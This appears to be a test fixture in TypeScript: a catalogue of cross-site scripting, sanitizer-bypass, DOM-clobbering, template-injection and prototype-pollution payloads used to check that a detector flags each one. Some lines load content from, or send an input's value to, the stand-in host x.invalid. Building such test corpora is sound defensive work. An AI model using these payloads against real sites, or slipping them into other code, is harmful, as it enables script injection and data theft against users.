/**
 * Texts that run, load or break something in a page which takes them for more than texts. `into` is such a way to take
 * them, and is how the test of the tripwire shows that each of them is dangerous.
 */
export interface Payload {
  readonly name: string;
  readonly into: Sink;
  readonly text: string;
}

/** What a careless page does with a text. */
export type Sink =
  | "html"
  | "double-quoted attribute"
  | "single-quoted attribute"
  | "unquoted attribute"
  | "comment"
  | "text area"
  | "link"
  | "style"
  | "style attribute"
  | "string of a script"
  | "template literal"
  | "expression in braces"
  | "html, percent-decoded"
  | "html, entities decoded"
  | "html, escapes of JSON decoded"
  | "html, normalised"
  | "html, in capitals"
  | "html, written twice"
  | "html, markdown"
  | "html, claims of a token"
  | "html, member of an object"
  | "merged objects";

const IMAGE = "<img src=x onerror=alert(1)>";
const segment = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString("base64url");
/** Letters as numeric entities, which no change of case touches. */
const entities = (text: string): string => [...text].map((one) => `&#${one.codePointAt(0)};`).join("");

const HTML: { readonly [name: string]: string } = {
  "script element": "<script>alert(1)</script>",
  "script element in odd case with attributes": "<ScRiPt x=y\n>alert(1)</sCrIpT\t>",
  "script from elsewhere": "<script src=//x.invalid/a.js></script>",
  "module from a data URL": "<script type=module src='data:text/javascript,alert(1)'></script>",
  "image that fails": IMAGE,
  "image without spaces": "<img/src='x'/onerror=alert(1)>",
  "image without parentheses": "<img src=x onerror=alert`1`>",
  "image with candidates": "<img srcset=//x.invalid/a.png>",
  "audio that fails": "<audio src=x onerror=alert(1)>",
  "source that fails": "<video><source onerror=alert(1)>",
  "field that takes the focus": "<input autofocus onfocus=alert(1)>",
  "details that open": "<details open ontoggle=alert(1)>x",
  "animation that starts":
    "<style>@keyframes k{}</style><b style='animation:k 1ms' onanimationstart=alert(1)>x</b>",
  "frame with a document": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "frame with a script's address": "<iframe src=javascript:parent.alert(1)></iframe>",
  "embedded object": "<object data=//x.invalid/o></object>",
  "another base": "<base href=//x.invalid/>",
  "refresh to elsewhere": "<meta http-equiv=refresh content='0;url=//x.invalid/'>",
  "another style sheet": "<link rel=stylesheet href=//x.invalid/a.css>",
  "preloaded address": "<link rel=preload as=image href=//x.invalid/a.png>",
  "form to elsewhere": "<form action=//x.invalid/><input name=secret><button>Go</button></form>",
  "unclosed tag": "<img src=x onerror=alert(1) x=",
  "unfinished image that swallows the page": "<img src='//x.invalid/?",
  template: "<template><script>alert(1)</script></template>",
  "custom element": "<x-y tabindex=1 autofocus onfocus=alert(1)>x</x-y>",
  "body again": "<body onload=alert(1)><input onfocus=alert(1) autofocus>",
  "svg that loads": "<svg onload=alert(1)>",
  "svg with a script": "<svg><script>alert(1)</script></svg>",
  "svg link": "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
  "svg animation of an address":
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
  "svg animation that begins": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "svg with HTML in it": `<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>`,
  "mathml link": "<math><mtext href='javascript:alert(1)'>x</mtext></math>",
  "noscript that is read in two ways": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "form in form": "<form id=a><div></form><form id=b><input name=parentNode><img src=x onerror=alert(1)>",
  "table that throws its content out": "<table><img src=x onerror=alert(1)><tr>",
  "comment of two meanings": "<!--><img src=x onerror=alert(1)>-->",
  "comment with a bang": "<!-- --!><img src=x onerror=alert(1)>",
  "character data": "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "processing instruction": "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "name of the report's form": "<form id=evidence><input name=reset><input name=elements></form>",
  "name of the document's methods":
    "<img name=getElementById><img name=createElement><a id=location href=x></a>",
  "name of the book of texts": '<a id=book>{"rules":[]}</a><a id=report></a><a id=words>[]</a>',
  "null bytes": "\u0000<im\u0000g><img\u0000 src=x><img src=x onerror=alert(1)>\u0000",
  "left to right and back": "\u202e<img src=x onerror=alert(1)>\u2066\u202d",
  "line separators and byte order mark": "\ufeff\u2028<img\u000csrc=x\u000donerror=alert(1)>\u2029",
  "lone surrogates": "\ud800<img src=x onerror=alert(1)>\udfff",
  "very long": `${"A<b>".repeat(600)}${IMAGE}`,
  "very deep": `${"<div>".repeat(600)}${IMAGE}`,
};

const OTHERS: readonly Payload[] = [
  { name: "out of double quotes", into: "double-quoted attribute", text: `"><svg onload=alert(1)>` },
  { name: "another attribute", into: "double-quoted attribute", text: `" autofocus onfocus=alert(1) x="` },
  { name: "out of single quotes", into: "single-quoted attribute", text: `'><img src=x onerror=alert(1)>` },
  { name: "blank that ends a value", into: "unquoted attribute", text: "x\tautofocus\fonfocus=alert(1)" },
  { name: "out of a comment", into: "comment", text: "--><svg onload=alert(1)>" },
  { name: "out of a text area", into: "text area", text: "</textarea><img src=x onerror=alert(1)>" },
  { name: "script's address", into: "link", text: "javascript:alert(1)" },
  {
    name: "script's address with breaks",
    into: "link",
    text: " \u0001java\tscr\nipt:alert(1)//https://zoom.us/j/1",
  },
  {
    name: "script's address as a comment",
    into: "link",
    text: "JaVaScRiPt://zoom.us/j/87270695528?%0aalert(1)",
  },
  { name: "style of another page", into: "style", text: "red}*{background:url(//x.invalid/)" },
  { name: "imported style", into: "style", text: "</style><style>@import '//x.invalid/a.css';" },
  {
    name: "secret read by a style",
    into: "style",
    text: `x}input[value^="f"]{background:url(//x.invalid/f)}p{`,
  },
  { name: "style of one element", into: "style attribute", text: "red;background:url(//x.invalid/)" },
  { name: "out of a string", into: "string of a script", text: `";alert(1);//` },
  {
    name: "out of a string behind a backslash",
    into: "string of a script",
    text: `\\\u0022;alert(1)//`.replace("\\", ""),
  },
  { name: "hole of a template literal", into: "template literal", text: "$" + "{alert(1)}" },
  {
    name: "expression in braces",
    into: "expression in braces",
    text: "{{constructor.constructor('alert(1)')()}}",
  },
  {
    name: "expression of another library",
    into: "expression in braces",
    text: "{{this.alert(1)}}<%= alert(1) %>#{alert(1)}",
  },
  { name: "percent-encoded", into: "html, percent-decoded", text: encodeURIComponent(IMAGE) },
  {
    name: "percent-encoded twice",
    into: "html, percent-decoded",
    text: encodeURIComponent(encodeURIComponent(IMAGE)),
  },
  { name: "named entities", into: "html, entities decoded", text: "&lt;img src=x onerror=alert(1)&gt;" },
  {
    name: "numeric entities without semicolons",
    into: "html, entities decoded",
    text: "&#x3cimg src=x onerror=&#0000097lert(1)&#62",
  },
  {
    name: "escapes of JSON",
    into: "html, escapes of JSON decoded",
    text: "\\u003cimg src=x onerror=alert(1)\\u003e",
  },
  { name: "out of JSON", into: "html, member of an object", text: `"},"signature":"x","a":{"b":"${IMAGE}` },
  { name: "wide characters", into: "html, normalised", text: "＜img src=x onerror=alert(1)＞" },
  { name: "long s", into: "html, in capitals", text: `<ſvg onload=${entities("alert(1)")}>` },
  {
    name: "mathml that becomes another tree when written and read again",
    into: "html, written twice",
    text: "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  },
  {
    name: "svg that an end tag breaks out of",
    into: "html, written twice",
    text: '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  },
  {
    name: "link of markdown",
    into: "html, markdown",
    text: "[x](javascript:alert(1)) `<img src=x onerror=alert(1)>`",
  },
  {
    name: "token full of HTML",
    into: "html, claims of a token",
    text: `${segment({ alg: IMAGE })}.${segment({ mn: IMAGE, [IMAGE]: 1 })}.${IMAGE}`,
  },
  {
    name: "prototype",
    into: "merged objects",
    text: '{"__proto__":{"isAdmin":true,"href":"javascript:alert(1)"}}',
  },
];

export const PAYLOADS: readonly Payload[] = [
  ...Object.entries(HTML).map(([name, text]) => ({ name, into: "html" as const, text })),
  ...OTHERS,
];
